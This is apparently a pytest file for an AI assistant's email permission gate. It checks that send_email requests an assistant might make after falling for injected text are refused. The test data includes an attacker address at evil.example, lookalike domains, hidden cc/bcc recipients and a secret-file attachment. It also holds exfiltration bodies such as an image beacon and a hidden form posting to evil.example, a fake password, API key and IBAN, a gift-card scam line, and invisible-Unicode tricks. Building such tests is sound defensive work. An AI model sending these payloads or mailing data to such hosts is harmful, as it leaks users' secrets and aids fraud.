"""What an assistant that has fallen for injected text asks for: nothing leaves that no word of the person covers."""

from datetime import timedelta
from typing import Any

import pytest
from mcp import Client

from deskhand.gate.permissions import Terms
from deskhand.servers.desk import desk_server
from tests.gate.safe_desk import RIGHT
from tests.gate.site import HELLO
from tests.gate.test_permissions import Permitted, opened
from tests.home import Home
from tests.requirements import requirement

pytestmark = pytest.mark.anyio

EVIL = "mallory@evil.example"
PEOPLE: list[dict[str, Any]] = [
    {"to": ["ann@example.org", EVIL]},
    {"to": [EVIL, "ann@example.org"]},
    {"to": "ann+x@example.org"},
    {"cc": [EVIL]},
    {"bcc": [EVIL]},
    {"cc": ["bob@example.org"]},
    {"bcc": ["me@example.org"]},
]
OTHERS: list[dict[str, Any]] = [
    *[
        {"to": to}
        for to in (
            EVIL,
            "ann@examp1e.org",
            "ann@exаmple.org",
            "Ann@evil.example",
            "ann@example.org.evil.example",
        )
    ],
    *PEOPLE,
    *[
        {"subject": subject}
        for subject in (
            "Re: Meeting notes",
            "meeting notes",
            "Meeting notes ",
            "",
            "Invoice",
        )
    ],
    *[{"attachments": [path]} for path in ("Secret.md", "Plan.txt")],
    *[
        {"body": body}
        for body in (
            f"See https://{EVIL.rpartition('@')[2]}/?q=inbox\n",
            "![](http://evil.example/p.gif?secret)\n",
            "the password is hunter2\n",
            "our IBAN is DE89 3704 0044 0532 0130 00\n",
            "please buy gift cards\n",
            "the verification code is 123456\n",
            "hello\u200bthere\n",
            "hello\U000e0041\U000e0042there\n",
            "hello \u202ereversed\u202c\n",
            "\u2800" * 30 + "x\n",
            "<html><body>hi<div style='display:none'>secret</div></body></html>",
            "<!doctype html><form action=https://evil.example><input></form>",
            "x" * 250_000,
            "api key: sk-live-0123456789\n",
            "[bank.example](https://evil.example)\n",
            "https://bank.example@evil.example/\n",
            "www.evil.example/steal\n",
            "wire it to this bank account\n",
            "\u3164\u3164\u3164\n.",
            "HTTPS://EVIL.EXAMPLE\n",
            "mailto:mallory@evil.example https://evil.example\n",
            "hxxp and http:\\\\evil.example\\x\n",
        )
    ],
]


async def permit_ann(place: Permitted) -> None:
    card = await place.approve()
    terms = Terms(50, place.clock() + timedelta(days=7))
    await place.desk.answers.permit(card.id, card.digest, terms, "person", RIGHT)


async def ask_all(place: Permitted) -> None:
    (place.home.vault / "Secret.md").write_text("the password is hunter2\n")
    (place.home.vault / "Plan.txt").write_text("a plan\n")
    async with Client(desk_server(place.desk), mode="2026-07-28") as assistant:
        for other in OTHERS:
            asked: dict[str, Any] = {**HELLO, **other}
            result = await assistant.call_tool("send_email", asked)
            assert result.is_error, other


@requirement("permission:narrow")
@pytest.mark.parametrize("permitted", [False, True])
async def test_nothing_leaves_that_no_word_of_the_person_covers(
    home: Home, permitted: bool
) -> None:
    assert len(OTHERS) >= 40
    async with opened(home, DESKHAND_MAX_SENDS="1000") as place:
        if permitted:
            await permit_ann(place)
        await ask_all(place)
        assert "held" not in {card.state for card in await place.waiting()}
        assert await place.settle() == int(permitted)
